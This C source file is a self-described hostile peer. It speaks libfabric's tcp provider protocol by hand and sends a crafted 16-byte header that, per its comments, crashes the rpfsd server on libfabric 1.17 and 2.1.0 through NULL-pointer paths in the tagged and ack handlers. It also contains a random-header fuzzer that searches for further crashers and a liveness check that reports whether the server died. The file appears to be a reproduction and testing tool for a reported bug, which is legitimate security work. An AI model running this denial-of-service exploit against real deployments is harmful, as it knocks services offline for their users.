/* tcp_tagged_crash: a hostile peer for rpfsd on libfabric's tcp provider.
 *
 * Speaks the wire protocol of libfabric 1.17's tcp provider (prov/tcp,
 * "tcpx", protocol version 3) by hand over a plain socket:
 *
 *   1. connection request: struct ofi_ctrl_hdr (32 bytes: version 3,
 *      type ofi_ctrl_connreq = 0, seg_size = htons(48), conn_data = 1 in
 *      host order, which tells the provider that both ends have the same
 *      byte order) followed by rpfs's 48-byte CM private data (proto.h:
 *      magic "RPFS", protocol version, nonce, time, MAC). With the cluster
 *      key (-k) the MAC is right, each request has a fresh nonce (the
 *      server's replay guard refuses one it has seen) and rpfsd calls
 *      fi_accept; without it rpfsd refuses the request (fi_reject) before
 *      it creates an endpoint, so the provider's data path is never
 *      reached.
 *   2. reads the connection response (ofi_ctrl_hdr type ofi_ctrl_connresp
 *      = 1, plus the server's CM data).
 *   3. sends one 16-byte struct tcpx_base_hdr: version 3, op (default 1 =
 *      ofi_op_tagged), flags, op_data, rma_iov_cnt, hdr_size 16, size 16,
 *      no payload.
 *
 * With Debian's libfabric 1.17.0-3 the server dies in step 3 (NULL srx
 * context in tcpx_op_tagged; op 0 with op_data 2 and size 16, an ack
 * nobody waits for, kills it in tcpx_handle_ack). libfabric 2.1.0 (the
 * same protocol) dies on ops 1, 5, 6, 7 and the ack. Then the program
 * checks whether the server is still there: a fresh connection to the port
 * must get a connection response to a connection request. See README.md.
 *
 * Usage: tcp_tagged_crash [options] HOST PORT
 *   -o OP       base header op (default 1, ofi_op_tagged)
 *   -f FLAGS    base header flags (default 0)
 *   -d OPDATA   base header op_data (default 0)
 *   -r CNT      base header rma_iov_cnt (default 0)
 *   -s HDRSIZE  base header hdr_size (default 16)
 *   -z SIZE     base header size (default = hdr_size)
 *   -R FILE     read the 16-byte header from FILE instead (raw bytes)
 *   -x HEX      the 16-byte header as 32 hex digits
 *   -k KEYFILE  the cluster key: every connection request (the attack's
 *               and the liveness check's) is a valid one, with a fresh
 *               nonce, the time and the MAC (common/auth.c)
 *   -c HEX      the connection request's CM private data, fixed (for
 *               example rpfs protocol version 1's 24 bytes, which made
 *               the 72-byte message; the liveness check sends it too)
 *   -n N        fuzz: N random headers, one connection each (seed -S)
 *   -S SEED     random seed for -n (default 1)
 *   -X          with -n: skip the two known crashers of stock 1.17 (op 1;
 *               op 0 with op_data 2 and size 16) to look for others
 *   -w MS       how long to wait after the header (for the server to close
 *               the connection or die) before the liveness check
 *               (default 300)
 *   -1          one-shot: send connreq and header in one write(), without
 *               waiting for the accept (the 72-byte message of the report
 *               with protocol version 1's CM data; 96 bytes with today's)
 *   -q          quiet
 *
 * Without -k and -c the request has the right shape and no valid MAC: a
 * server that checks the key rejects it, which the program reports (and a
 * rejection also counts as "alive" for the liveness check).
 *
 * Exit status: 0 the server is still alive, 1 the server died (connection
 * refused or no connection response afterwards), 2 usage or setup error
 * (for example the server was not reachable to begin with; or, for a
 * single attack, the server rejected the connection request, which the
 * program says).
 * In fuzz mode (-n) it stops at the first header that kills the server,
 * prints it as hex and exits 1.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

#include "auth.h"
#include "proto.h"

/* ---- libfabric 1.17 tcp provider wire format (protocol version 3) ---- */
#define TCP_CTRL_HDR_VERSION 3	 /* TCPX_CTRL_HDR_VERSION */
#define TCP_HDR_VERSION	     3	 /* TCPX_HDR_VERSION */
#define CTRL_CONNREQ	     0	 /* ofi_ctrl_connreq */
#define CTRL_CONNRESP	     1	 /* ofi_ctrl_connresp */
#define CTRL_NACK	     6	 /* ofi_ctrl_nack */
#define CTRL_HDR_SIZE	     32	 /* sizeof(struct ofi_ctrl_hdr) */
#define BASE_HDR_SIZE	     16	 /* sizeof(struct tcpx_base_hdr) */
#define MAX_CM_DATA	     256 /* TCPX_MAX_CM_DATA_SIZE */

static int quiet;

#define say(...)                                                                         \
	do {                                                                             \
		if (!quiet)                                                              \
			fprintf(stderr, __VA_ARGS__);                                    \
	} while (0)

static void put16le(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)v;
	p[1] = (uint8_t)(v >> 8);
}

static void put32le(uint8_t *p, uint32_t v)
{
	put16le(p, (uint16_t)v);
	put16le(p + 2, (uint16_t)(v >> 16));
}

static void put64le(uint8_t *p, uint64_t v)
{
	put32le(p, (uint32_t)v);
	put32le(p + 4, (uint32_t)(v >> 32));
}

static void hex(FILE *f, const uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		fprintf(f, "%02x", p[i]);
}

/* CM private data of the connection request: rpfs's, made fresh for each
 * request (with the key's MAC when -k gave one), or fixed bytes from -c. */
static uint8_t cm_data[MAX_CM_DATA];
static size_t cm_len;
static int cm_fixed;
static struct auth_key key;
static int have_key;

/* A request as rpfs's client makes it (xport_conn.c): a new nonce, the
 * time, the MAC over the first PROTO_CM_REQ_MAC_OFF bytes; all-zero MAC
 * without a key. */
static void fresh_cm_data(void)
{
	struct proto_cm_req m = {.magic = PROTO_MAGIC, .version = PROTO_VERSION};

	auth_random(m.nonce, sizeof(m.nonce));
	m.time_s = (uint64_t)time(NULL);
	proto_cm_req_encode(cm_data, &m);
	if (have_key) {
		auth_mac(&key, "connreq", cm_data, PROTO_CM_REQ_MAC_OFF, NULL, 0, NULL, 0,
			 m.mac);
		proto_cm_req_encode(cm_data, &m);
	}
	cm_len = PROTO_CM_REQ_SIZE;
}

/* The connection request: ofi_ctrl_hdr + the CM data. buf has room for
 * CTRL_HDR_SIZE + MAX_CM_DATA. Returns its length (80 unless -c). */
static size_t build_connreq(uint8_t *buf)
{
	if (!cm_fixed)
		fresh_cm_data();
	memset(buf, 0, CTRL_HDR_SIZE);
	buf[0] = TCP_CTRL_HDR_VERSION;	 /* version */
	buf[1] = CTRL_CONNREQ;		 /* type */
	buf[2] = (uint8_t)(cm_len >> 8); /* seg_size, network byte order */
	buf[3] = (uint8_t)cm_len;
	/* seg_no (4), conn_id (8), msg_id (8): zero */
	put64le(buf + 24, 1); /* conn_data = 1: same byte order */
	memcpy(buf + CTRL_HDR_SIZE, cm_data, cm_len);
	return CTRL_HDR_SIZE + cm_len;
}

struct hdr_opts {
	unsigned op, flags, op_data, rma_iov_cnt, hdr_size;
	uint64_t size;
	int size_set;
};

static void build_base_hdr(uint8_t *h, const struct hdr_opts *o)
{
	memset(h, 0, BASE_HDR_SIZE);
	h[0] = TCP_HDR_VERSION;
	h[1] = (uint8_t)o->op;
	put16le(h + 2, (uint16_t)o->flags);
	h[4] = (uint8_t)o->op_data;
	h[5] = (uint8_t)o->rma_iov_cnt;
	h[6] = (uint8_t)o->hdr_size;
	h[7] = 0; /* rsvd / debug id */
	put64le(h + 8, o->size_set ? o->size : o->hdr_size);
}

static int resolve(const char *host, const char *port, struct sockaddr_storage *ss,
		   socklen_t *len)
{
	struct addrinfo hints = {0}, *ai;
	int ret;

	hints.ai_socktype = SOCK_STREAM;
	ret = getaddrinfo(host, port, &hints, &ai);
	if (ret) {
		fprintf(stderr, "tcp_tagged_crash: %s:%s: %s\n", host, port,
			gai_strerror(ret));
		return -1;
	}
	memcpy(ss, ai->ai_addr, ai->ai_addrlen);
	*len = ai->ai_addrlen;
	freeaddrinfo(ai);
	return 0;
}

/* Connect with a timeout. Returns the fd, -ECONNREFUSED, or another -errno. */
static int connect_to(const struct sockaddr_storage *ss, socklen_t len, int timeout_ms)
{
	struct pollfd pfd;
	int fd, err = 0, one = 1;
	socklen_t elen = sizeof(err);

	fd = socket(ss->ss_family, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
	if (fd < 0)
		return -errno;
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	if (connect(fd, (const struct sockaddr *)ss, len) && errno != EINPROGRESS) {
		err = errno;
		close(fd);
		return -err;
	}
	pfd.fd = fd;
	pfd.events = POLLOUT;
	if (poll(&pfd, 1, timeout_ms) != 1) {
		close(fd);
		return -ETIMEDOUT;
	}
	if (getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &elen) || err) {
		close(fd);
		return -(err ? err : EIO);
	}
	fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) & ~O_NONBLOCK);
	return fd;
}

static int write_all(int fd, const uint8_t *p, size_t n)
{
	while (n) {
		ssize_t r = send(fd, p, n, MSG_NOSIGNAL);

		if (r < 0 && errno == EINTR)
			continue;
		if (r <= 0)
			return -1;
		p += r;
		n -= (size_t)r;
	}
	return 0;
}

/* Read exactly n bytes within timeout_ms. 0 ok, -1 EOF/error/timeout. */
static int read_all(int fd, uint8_t *p, size_t n, int timeout_ms)
{
	struct pollfd pfd = {.fd = fd, .events = POLLIN};

	while (n) {
		ssize_t r;

		if (poll(&pfd, 1, timeout_ms) != 1)
			return -1;
		r = recv(fd, p, n, 0);
		if (r < 0 && errno == EINTR)
			continue;
		if (r <= 0)
			return -1;
		p += r;
		n -= (size_t)r;
	}
	return 0;
}

/* Read the connection response. 0: connresp (accepted), 1: nack
 * (rejected), -1: nothing / garbage. */
static int read_connresp(int fd, int timeout_ms)
{
	uint8_t h[CTRL_HDR_SIZE], data[MAX_CM_DATA];
	size_t n;

	if (read_all(fd, h, sizeof(h), timeout_ms))
		return -1;
	if (h[0] != TCP_CTRL_HDR_VERSION)
		return -1;
	n = ((size_t)h[2] << 8) | h[3];
	if (n > sizeof(data) || (n && read_all(fd, data, n, timeout_ms)))
		return -1;
	if (h[1] == CTRL_NACK)
		return 1;
	return h[1] == CTRL_CONNRESP ? 0 : -1;
}

/* Is the server alive: a fresh connection gets a connection response (or a
 * reject, which is also an answer) to a valid request. 1 alive, 0 dead. */
static int server_alive(const struct sockaddr_storage *ss, socklen_t len)
{
	uint8_t req[CTRL_HDR_SIZE + MAX_CM_DATA];
	int tries, fd, r;

	/* The process may take a moment to die (core dump, logging); a dead
	 * server refuses; a live one answers within its accept timeout. */
	for (tries = 0; tries < 3; tries++) {
		fd = connect_to(ss, len, 2000);
		if (fd == -ECONNREFUSED)
			return 0;
		if (fd < 0) {
			usleep(200000);
			continue;
		}
		r = write_all(fd, req, build_connreq(req)) ? -1 : read_connresp(fd, 3000);
		close(fd);
		if (r >= 0)
			return 1;
		usleep(200000);
	}
	/* Neither refused nor answering: count as dead (a hung server is
	 * as good as dead for its clients). */
	return 0;
}

/* Wait up to ms for the peer to close (EOF or reset); data it sends is
 * read and dropped. 1 closed, 0 still open after ms. */
static int peer_closed(int fd, int ms)
{
	struct pollfd pfd = {.fd = fd, .events = POLLIN};
	struct timespec t0, t;
	uint8_t buf[256];

	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		long left;

		clock_gettime(CLOCK_MONOTONIC, &t);
		left = ms - ((t.tv_sec - t0.tv_sec) * 1000 +
			     (t.tv_nsec - t0.tv_nsec) / 1000000);
		if (left <= 0 || poll(&pfd, 1, (int)left) != 1)
			return 0;
		if (recv(fd, buf, sizeof(buf), MSG_DONTWAIT) <= 0 && errno != EAGAIN &&
		    errno != EINTR)
			return 1;
	}
}

/* One attack: connect, connreq, (wait for the accept), send hdr, wait.
 * Returns 0 when the attack was delivered, 2 on a setup error. */
static int attack(const struct sockaddr_storage *ss, socklen_t len, const uint8_t *hdr,
		  int one_shot, int wait_ms)
{
	uint8_t buf[CTRL_HDR_SIZE + MAX_CM_DATA + BASE_HDR_SIZE];
	size_t n;
	int fd, r, closed;

	fd = connect_to(ss, len, 2000);
	if (fd < 0) {
		fprintf(stderr, "tcp_tagged_crash: connect: %s\n", strerror(-fd));
		return 2;
	}
	n = build_connreq(buf);
	if (one_shot) {
		memcpy(buf + n, hdr, BASE_HDR_SIZE);
		n += BASE_HDR_SIZE;
		say("sending %zu bytes: ", n);
		if (!quiet) {
			hex(stderr, buf, n);
			fputc('\n', stderr);
		}
		if (write_all(fd, buf, n)) {
			close(fd);
			return 2;
		}
		r = read_connresp(fd, 3000);
		say("connection response: %s\n", r == 0	  ? "accepted"
						 : r == 1 ? "rejected"
							  : "none");
	} else {
		if (write_all(fd, buf, n)) {
			close(fd);
			return 2;
		}
		r = read_connresp(fd, 3000);
		if (r) {
			fprintf(stderr,
				"tcp_tagged_crash: the server %s the connection request\n",
				r == 1 ? "rejected" : "did not answer");
			close(fd);
			return 2;
		}
		say("accepted; sending header ");
		if (!quiet) {
			hex(stderr, hdr, BASE_HDR_SIZE);
			fputc('\n', stderr);
		}
		if (write_all(fd, hdr, BASE_HDR_SIZE)) {
			/* the server may have closed already: fine */
		}
	}
	closed = peer_closed(fd, wait_ms);
	say("connection after the header: %s\n",
	    closed ? "closed by the server" : "still open");
	close(fd);
	return 0;
}

/* Exactly n bytes (2n hex digits) from s into out. */
static int parse_hex(const char *s, uint8_t *out, size_t n)
{
	if (strlen(s) != 2 * n)
		return -1;
	for (size_t i = 0; i < n; i++) {
		unsigned v;

		if (sscanf(s + 2 * i, "%2x", &v) != 1)
			return -1;
		out[i] = (uint8_t)v;
	}
	return 0;
}

static uint64_t rng_state;

static uint32_t rnd(void)
{
	/* xorshift64* */
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return (uint32_t)((rng_state * 0x2545F4914F6CDD1DULL) >> 32);
}

/* A random header biased to what the provider looks at: version mostly 3,
 * op mostly 0..15, hdr_size mostly 16..112, small sizes. */
static void random_hdr(uint8_t *h)
{
	struct hdr_opts o = {0};

	o.op = rnd() % 8 ? rnd() % 16 : rnd() & 0xff;
	o.flags = rnd() % 2 ? (1u << (rnd() % 8)) | (rnd() % 4 ? 0 : rnd() & 0xffff) : 0;
	o.op_data = rnd() % 2 ? rnd() % 4 : rnd() & 0xff;
	o.rma_iov_cnt = rnd() % 2 ? rnd() % 6 : rnd() & 0xff;
	if (rnd() % 4)
		o.hdr_size = BASE_HDR_SIZE;
	else if (rnd() % 4)
		o.hdr_size = BASE_HDR_SIZE + 8 * (rnd() % 13);
	else
		o.hdr_size = rnd() & 0xff;
	o.size_set = 1;
	switch (rnd() % 4) {
	case 0:
		o.size = o.hdr_size;
		break;
	case 1:
		o.size = rnd() % 64;
		break;
	case 2:
		o.size = o.hdr_size + rnd() % 4096;
		break;
	default:
		o.size = ((uint64_t)rnd() << 32) | rnd();
	}
	build_base_hdr(h, &o);
	if (rnd() % 8 == 0)
		h[0] = (uint8_t)rnd(); /* version */
	if (rnd() % 16 == 0)
		h[7] = (uint8_t)rnd();
}

/* The two headers that kill a stock 1.17 tcp endpoint without FI_TAGGED
 * or pending acks: any ofi_op_tagged, and an ack (ofi_op_msg with op_data
 * TCPX_OP_ACK = 2, size 16) that no send asked for. */
static int known_crasher(const uint8_t *h)
{
	uint64_t size = 0;

	for (int i = 7; i >= 0; i--)
		size = (size << 8) | h[8 + i];
	return h[1] == 1 || (h[1] == 0 && h[4] == 2 && size == BASE_HDR_SIZE);
}

static void usage(void)
{
	fprintf(stderr,
		"usage: tcp_tagged_crash [-o OP] [-f FLAGS] [-d OPDATA] [-r CNT]\n"
		"         [-s HDR_SIZE] [-z SIZE] [-x HEX32 | -R FILE]\n"
		"         [-k KEYFILE | -c CMHEX]\n"
		"         [-n N [-S SEED]] [-X] [-w MS] [-1] [-q] HOST PORT\n"
		"exit: 0 server alive, 1 server died, 2 usage/setup error\n");
	exit(2);
}

int main(int argc, char **argv)
{
	struct hdr_opts o = {.op = 1, .hdr_size = BASE_HDR_SIZE};
	struct sockaddr_storage ss;
	socklen_t sslen;
	uint8_t hdr[BASE_HDR_SIZE];
	const char *hexhdr = NULL, *rawfile = NULL, *hexcm = NULL, *keyfile = NULL;
	long nfuzz = 0;
	unsigned long seed = 1;
	int one_shot = 0, wait_ms = 300, skip_known = 0, c, r;

	while ((c = getopt(argc, argv, "o:f:d:r:s:z:x:R:c:k:n:S:w:X1q")) != -1) {
		switch (c) {
		case 'o':
			o.op = (unsigned)strtoul(optarg, NULL, 0);
			break;
		case 'f':
			o.flags = (unsigned)strtoul(optarg, NULL, 0);
			break;
		case 'd':
			o.op_data = (unsigned)strtoul(optarg, NULL, 0);
			break;
		case 'r':
			o.rma_iov_cnt = (unsigned)strtoul(optarg, NULL, 0);
			break;
		case 's':
			o.hdr_size = (unsigned)strtoul(optarg, NULL, 0);
			break;
		case 'z':
			o.size = strtoull(optarg, NULL, 0);
			o.size_set = 1;
			break;
		case 'x':
			hexhdr = optarg;
			break;
		case 'R':
			rawfile = optarg;
			break;
		case 'c':
			hexcm = optarg;
			break;
		case 'k':
			keyfile = optarg;
			break;
		case 'n':
			nfuzz = strtol(optarg, NULL, 0);
			break;
		case 'S':
			seed = strtoul(optarg, NULL, 0);
			break;
		case 'w':
			wait_ms = atoi(optarg);
			break;
		case 'X':
			skip_known = 1;
			break;
		case '1':
			one_shot = 1;
			break;
		case 'q':
			quiet = 1;
			break;
		default:
			usage();
		}
	}
	if (argc - optind != 2)
		usage();
	if (resolve(argv[optind], argv[optind + 1], &ss, &sslen))
		return 2;

	build_base_hdr(hdr, &o);
	if (keyfile) {
		char why[512];

		if (auth_key_load(keyfile, &key, why, sizeof(why))) {
			fprintf(stderr, "tcp_tagged_crash: %s\n", why);
			return 2;
		}
		have_key = 1;
	}
	if (hexcm) {
		cm_fixed = 1;
		cm_len = strlen(hexcm) / 2;
		if (cm_len > MAX_CM_DATA || parse_hex(hexcm, cm_data, cm_len)) {
			fprintf(stderr,
				"tcp_tagged_crash: -c wants at most %d bytes in hex\n",
				MAX_CM_DATA);
			return 2;
		}
	}
	if (hexhdr && parse_hex(hexhdr, hdr, BASE_HDR_SIZE)) {
		fprintf(stderr, "tcp_tagged_crash: -x wants 32 hex digits\n");
		return 2;
	}
	if (rawfile) {
		FILE *f = fopen(rawfile, "rb");

		if (!f || fread(hdr, 1, BASE_HDR_SIZE, f) != BASE_HDR_SIZE) {
			fprintf(stderr, "tcp_tagged_crash: %s: need 16 bytes\n", rawfile);
			return 2;
		}
		fclose(f);
	}

	if (!server_alive(&ss, sslen)) {
		fprintf(stderr, "tcp_tagged_crash: no server answering at %s:%s\n",
			argv[optind], argv[optind + 1]);
		return 2;
	}

	if (nfuzz > 0) {
		rng_state = seed * 0x9E3779B97F4A7C15ULL + 1;
		for (long i = 0; i < nfuzz; i++) {
			random_hdr(hdr);
			if (skip_known && known_crasher(hdr)) {
				i--;
				continue;
			}
			r = attack(&ss, sslen, hdr, 0, wait_ms);
			if (r == 2) {
				/* the connection itself failed: the previous
				 * header may have hurt the server */
				if (!server_alive(&ss, sslen)) {
					printf("DEAD-BEFORE %ld\n", i);
					return 1;
				}
				continue;
			}
			if (!server_alive(&ss, sslen)) {
				printf("CRASH %ld ", i);
				hex(stdout, hdr, BASE_HDR_SIZE);
				printf("\n");
				return 1;
			}
		}
		printf("SURVIVED %ld\n", nfuzz);
		return 0;
	}

	r = attack(&ss, sslen, hdr, one_shot, wait_ms);
	if (r)
		return r;
	if (server_alive(&ss, sslen)) {
		say("server alive\n");
		return 0;
	}
	say("server died\n");
	return 1;
}
